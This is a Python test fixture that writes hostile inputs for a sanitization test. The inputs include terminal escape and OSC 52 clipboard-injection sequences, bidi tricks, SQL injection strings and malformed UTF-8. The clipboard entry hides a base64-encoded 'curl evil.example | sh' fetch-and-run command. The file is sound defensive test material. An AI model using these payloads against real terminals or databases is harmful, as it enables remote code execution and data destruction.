#!/usr/bin/env python3
"""payloads.py DIR: write hostile inputs, one file each, raw bytes. Names
starting with "sql_" must come back verbatim; "bad_" ones are not UTF-8 or
too long and must be refused; the rest are stored cleaned. Importable: P is
the table (tests/reliab/screen_inject.py draws them)."""
import os
import sys

P = {
    "csi": b"\x1b[31mred\x1b[0m\x1b[2J\x1b[H\x1b[?1049h",
    "osc_title": b"\x1b]0;pwned\x07 tail",
    "osc_title_st": b"\x1b]2;pwned\x1b\\ tail",
    "osc52_clipboard": b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "dcs": b"\x1bP+q544e\x1b\\ \x1bPtmux;\x1b\x1b]0;x\x07\x1b\\",
    "c1_utf8": b"\xc2\x9b31m \xc2\x9d0;t\xc2\x9c \xc2\x90q\xc2\x9c \xc2\x85",
    "bidi": "safe \u202eevil\u202c \u2066x\u2069 \u200f\u061c \u2028\u2029\ufeff".encode(),
    "controls": b"a\rb\x08c\x7fd\x07e\x00"[:-1] + b"\tf\x0bg\x0ch",
    "newline": b"line1\nline2\n\nline4",
    "long_line": b"L" * 60000,
    "sql_drop": b"'); DROP TABLE entry; --",
    "sql_quotes": b"Robert'); DROP TABLE responder;-- \"x\" \\ `y`",
    "sql_like": b"100% of _all_ requests %s%n%x %% __",
    "sql_unicode": "ロールバック完了 ✔ naïve".encode(),
    "bad_c1_raw": b"x\x9b31m",
    "bad_overlong": b"\xc0\xaf\xe0\x80\xaf",
    "bad_surrogate": b"\xed\xa0\x80",
    "bad_invalid": b"ok\xff\xfe",
    "bad_too_long": b"T" * 100000,
}

if __name__ == "__main__":
    d = sys.argv[1]
    os.makedirs(d, exist_ok=True)
    for k, v in P.items():
        with open(os.path.join(d, k), "wb") as f:
            f.write(v)
